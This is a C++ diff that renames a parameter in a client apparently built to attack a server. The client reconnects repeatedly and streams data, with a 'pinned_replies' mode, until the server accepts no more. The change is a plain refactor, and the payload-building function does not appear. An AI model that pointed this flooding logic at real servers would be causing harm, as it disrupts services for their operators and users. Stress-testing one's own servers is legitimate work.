@@ -53,14 +53,14 @@ std::string piece(attack a, int n) {
 }
 
 // Until the server accepts no more.
-task<> talk(net::stream& to, attack how, const bool& over) {
-  std::string part = how == attack::pinned_replies ? bytes::greeting("\0\4\0\0\0\0"s) : bytes::greeting();
+task<> talk(net::stream& to, attack chosen, const bool& over) {
+  std::string part = chosen == attack::pinned_replies ? bytes::greeting("\0\4\0\0\0\0"s) : bytes::greeting();
   int n = 0;
   while (!over) {
     const status put = co_await to.write(as_bytes(part));
-    if (!put.ok() || (how == attack::pinned_replies && n >= replies_wanted)) co_return;
+    if (!put.ok() || (chosen == attack::pinned_replies && n >= replies_wanted)) co_return;
     part.clear();
-    for (const int end = n + pieces_at_once; n < end; ++n) part += piece(how, n);
+    for (const int end = n + pieces_at_once; n < end; ++n) part += piece(chosen, n);
   }
 }
 
@@ -74,13 +74,13 @@ task<> read_to_the_end(net::stream& from) {
 
 }  // namespace
 
-task<> attack_until(const bool& over, run& r, attack how, std::string server) {
+task<> attack_until(const bool& over, run& r, attack chosen, std::string server) {
   const net::address where = net::address::parse(server).value();
   while (!over) {
     result<net::stream> s = co_await net::stream::connect(where);
     if (!s) co_return;
-    r.tally(name_of(how));
-    co_await talk(*s, how, over);
+    r.tally(name_of(chosen));
+    co_await talk(*s, chosen, over);
     if (over) co_return;
     co_await read_to_the_end(*s);
     r.tally("sent away");
